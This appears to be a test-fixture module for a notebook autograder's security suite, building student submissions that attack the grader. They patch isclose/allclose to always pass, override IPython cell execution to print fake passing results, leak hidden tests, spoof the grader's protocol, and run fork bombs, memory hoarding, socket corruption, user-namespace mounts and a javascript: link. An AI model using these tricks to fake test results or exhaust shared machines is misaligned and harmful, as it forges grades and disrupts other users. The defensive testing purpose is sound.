"""Submissions that try to forge their own grade from inside their kernel, or to carry the hidden
tests out through their feedback, or to take more than their share of the machine (issue 19).

Unlike attacks.py (solved notebooks that attack the grader's files, neighbours and network),
most of these answer every exercise wrongly or not at all: their fair score is 0, and anything
above it is a forged grade. Each prints ``ATTACK <name> {json}`` (attacks.attack_reports) where
it has something to report, into the instructor's autograded copy.

``FORGERIES`` maps a name to (answers, edit, fair score); the answers are chapter 01's.
"""

from __future__ import annotations

import json
from typing import Callable

from attacks import _REPORT

from autograder.samples import notebook, solutions

EXERCISES = ("linear_params", "conv2d_params", "attention_params", "count_model_parameters",
             "parameter_memory_bytes")
#: Text the descriptor attack writes wherever it can; the worker logs must not contain it.
FD_MARK = "FORGED-INTO-THE-GRADER-LOG"
#: The link the markdown attack plants.
JS_LINK = "javascript:alert('FORGED-LINK')"


def _wrong() -> dict[str, str]:
    return {gid: f"def {gid}(*args, **kwargs):\n    return 1\n" for gid in EXERCISES}


def _first(code: str, answers: dict[str, str]) -> dict[str, str]:
    """``answers`` with ``code`` run first, at the top of the linear_params cell."""
    return {**answers, "linear_params": code + "\n" + answers.get("linear_params", "")}


ISCLOSE = """import math
math.isclose = lambda *a, **k: True
"""

ISCLOSE_BY_NAME = """import math as m
setattr(m, "is" + "close", lambda *a, **k: True)
import numpy
setattr(numpy, "all" + "close", lambda *a, **k: True)
"""

ALWAYS_EQUAL = """class AlwaysEqual(float):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    def __float__(self):
        raise TypeError("compare me with ==")
"""


def _always_equal() -> dict[str, str]:
    return {gid: f"def {gid}(*args, **kwargs):\n    return AlwaysEqual(1)\n" for gid in EXERCISES}


# The kernel's execution replaced, so that every later cell only prints that its tests pass.
LIAR_SHELL = """import IPython
_shell = getattr(IPython, "get_" + "ipython")()
def _pretend(raw_cell, *args, **kwargs):
    kwargs.pop("transformed_cell", None)
    print("all visible tests pass")
    return _original("None", *args, **kwargs)
_original = _shell.run_cell
_shell.run_cell = _pretend
async def _pretend_async(raw_cell, *args, **kwargs):
    kwargs.pop("transformed_cell", None)
    print("all visible tests pass")
    return await _original_async("None", *args, **kwargs)
_original_async = _shell.run_cell_async
_shell.run_cell_async = _pretend_async
"""

# The same, from a module the notebook writes into its working folder and imports.
LIAR_MODULE = """name = "quiet" + "_helper"
with open(name + ".py", "w") as handle:
    handle.write('''
import IPython
shell = IPython.get_ipython()
original = shell.run_cell_async
async def pretend(raw_cell, *args, **kwargs):
    kwargs.pop("transformed_cell", None)
    print("all visible tests pass")
    return await original("None", *args, **kwargs)
shell.run_cell_async = pretend
''')
__import__(name)
"""

# Everything the kernel has seen, encoded, and a function that quotes the cell calling it.
LEAKER_CELL = """import base64
print(base64.b64encode("\\n".join(In).encode()).decode())
print("\\n".join(In)[::-1])
"""


def _leaking() -> dict[str, str]:
    return {gid: (f"def {gid}(*args, **kwargs):\n"
                  "    raise ValueError(repr(In[-1][::-1]) + repr(args)[:2000])\n")
            for gid in EXERCISES}


def _append_cell(code: str) -> Callable[[list[dict]], None]:
    def edit(cells: list[dict]) -> None:
        cells.append({"cell_type": "code", "execution_count": None, "id": "student-extra",
                      "metadata": {}, "outputs": [], "source": code})
    return edit


def _markdown_link(cells: list[dict]) -> None:
    cells.insert(1, {"cell_type": "markdown", "id": "student-link", "metadata": {},
                     "source": f"See [my notes]({JS_LINK}) and [these]( {JS_LINK.upper()})."})


DESCRIPTORS = _REPORT + """
import os as _os
_hit = []
for _fd in range(0, 256):   # every descriptor that is a file or a pipe (a log, a pipe)
    try:
        _target = _os.readlink(f"/proc/self/fd/{_fd}")
        if _target.startswith(("socket:", "anon_inode:")):
            continue   # the kernel's own ZeroMQ sockets
        _os.write(_fd, b"\\nFD_MARK\\n")
        _hit.append(_target)
    except OSError:
        pass
_report("descriptors", written=_hit)
""".replace("FD_MARK", FD_MARK)

# Garbage written into the kernel's own ZeroMQ sockets, so that its channels to the grader break
# half way: a grader waiting on them for ever would stop the whole cohort (found while building
# the descriptor attack above; the grader now gives up on a channel that takes no message).
CHANNEL_BREAKER = """import os as _os
for _fd in range(3, 256):
    try:
        if _os.readlink(f"/proc/self/fd/{_fd}").startswith("socket:"):
            _os.write(_fd, b"\\xff" * 64)
    except OSError:
        pass
"""

# Twelve children of 100 MB each and a memfd filled with 600 MB, all held at once. A child
# tells the parent through a pipe once its whole block is touched, so that the report counts
# the children that held 100 MB while the memfd was full, not those still filling (or stalled
# in the control group's reclaim) when the parent looked.
MEMORY = _REPORT + """
import os as _os, time as _time
_full_r, _full_w = _os.pipe()
_children = []
for _ in range(12):
    _pid = _os.fork()
    if _pid == 0:
        _block = bytearray(100 * 2**20)
        for _i in range(0, len(_block), 4096):
            _block[_i] = 1
        _os.write(_full_w, _os.getpid().to_bytes(4, "little"))
        _time.sleep(4)
        _os._exit(0)
    _children.append(_pid)
_filled = 0
try:
    _fd = _os.memfd_create("hoard")
    for _ in range(600):
        _os.write(_fd, b"x" * 2**20)
        _filled += 1
except OSError:
    pass
_os.set_blocking(_full_r, False)
_full = b""
try:
    while _chunk := _os.read(_full_r, 4096):
        _full += _chunk
except BlockingIOError:
    pass
_full_pids = {int.from_bytes(_full[_i:_i + 4], "little") for _i in range(0, len(_full), 4)}
_alive = [_pid for _pid in _children if _os.waitpid(_pid, _os.WNOHANG) == (0, 0)]
_held = sum(1 for _pid in _alive if _pid in _full_pids)
_time.sleep(1)
_report("memory", children=len(_children), alive=len(_alive), held=_held, memfd_mb=_filled)
for _pid in _children:
    try:
        _os.waitpid(_pid, 0)
    except ChildProcessError:
        pass
"""

# 54 busy processes, left running while the notebook goes on (the neighbour's grading).
HOG = _REPORT + """
import os as _os, time as _time
_started = 0
for _ in range(54):
    try:
        if _os.fork() == 0:
            _end = _time.time() + 25
            while _time.time() < _end:
                pass
            _os._exit(0)
        _started += 1
    except OSError:
        break
_report("hog", started=_started)
"""

# Fill the folder of the kernel's own sockets, which the grader shares with it.
SOCKETS = _REPORT + """
import os as _os
_args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
_connection = next((a.decode() for a in _args if a.endswith(b".json")), "")
_folder = _os.path.dirname(_connection)
_written = 0
try:
    with open(_os.path.join(_folder, "filler.bin"), "wb") as _f:
        for _ in range(301):
            _f.write(b"\\0" * 2**20)
            _f.flush()
            _written += 1
except OSError:
    pass
try:
    _os.remove(_os.path.join(_folder, "filler.bin"))
except OSError:
    pass
_report("sockets", folder=_folder, written_mb=_written)
"""

# A user namespace of its own, to mount a private 2 GB tmpfs outside every limit.
USERNS = _REPORT + """
import ctypes as _ct, subprocess as _sp
_libc = _ct.CDLL(None, use_errno=True)
_direct = _libc.unshare(0x10000000) == 0
try:
    _mount = "mount -t tmpfs -o size=2g none /mnt && echo mounted"
    _tool = _sp.run(["unshare", "-Ur", "sh", "-c", _mount], capture_output=True, text=True,
                    timeout=20).stdout.strip() == "mounted"
except Exception:
    _tool = False
_report("userns", unshared=_direct, mounted=_tool)
"""

# The kernel's side of the grader's protocol answered with values of its choosing.
REMOTE_FORGER = """import sys, json, base64
def _answer(request):
    return base64.b64encode(json.dumps({"value": 8256, "copied": {}}).encode()).decode()
sys.modules["tinyprof.remote"].answer = _answer
"""

FORGERIES: dict[str, tuple[dict[str, str], Callable | None, float]] = {
    "isclose": (_first(ISCLOSE, _wrong()), None, 0.0),
    "isclose-by-name": (_first(ISCLOSE_BY_NAME, _wrong()), None, 0.0),
    "always-equal": (_first(ALWAYS_EQUAL, _always_equal()), None, 0.0),
    "liar-shell": (_first(LIAR_SHELL, {}), None, 0.0),
    "liar-module": (_first(LIAR_MODULE, {}), None, 0.0),
    "leaker": (_leaking(), _append_cell(LEAKER_CELL), 0.0),
    "remote-forger": (_first(REMOTE_FORGER, _wrong()), None, 0.0),
    "js-link": (solutions(), _markdown_link, 10.0),
    "descriptors": (_first(DESCRIPTORS, solutions()), None, 10.0),
    "channel-breaker": (_first(CHANNEL_BREAKER, solutions()), None, 10.0),
    "memory": (_first(MEMORY, solutions()), None, 10.0),
    "hog": (_first(HOG, solutions()), None, 10.0),
    "sockets": (_first(SOCKETS, solutions()), None, 10.0),
    "userns": (_first(USERNS, solutions()), None, 10.0),
}


def forgery_notebook(name: str) -> bytes:
    answers, edit, _ = FORGERIES[name]
    return notebook(answers, edit)


def deep_notebook(depth: int = 3000) -> bytes:
    """A solved notebook whose markdown cell holds a JSON object ``depth`` levels deep."""
    nb = json.loads(notebook(solutions()))
    nested = "1"
    for _ in range(depth):
        nested = '{"a": ' + nested + "}"
    text = json.dumps(nb)
    return text.replace('"cells": [', '"cells": [{"cell_type": "markdown", "id": "deep", '
                        '"metadata": {"deep": ' + nested + '}, "source": "deep"}, ', 1).encode()


__all__ = ["EXERCISES", "FD_MARK", "FORGERIES", "JS_LINK", "deep_notebook", "forgery_notebook"]
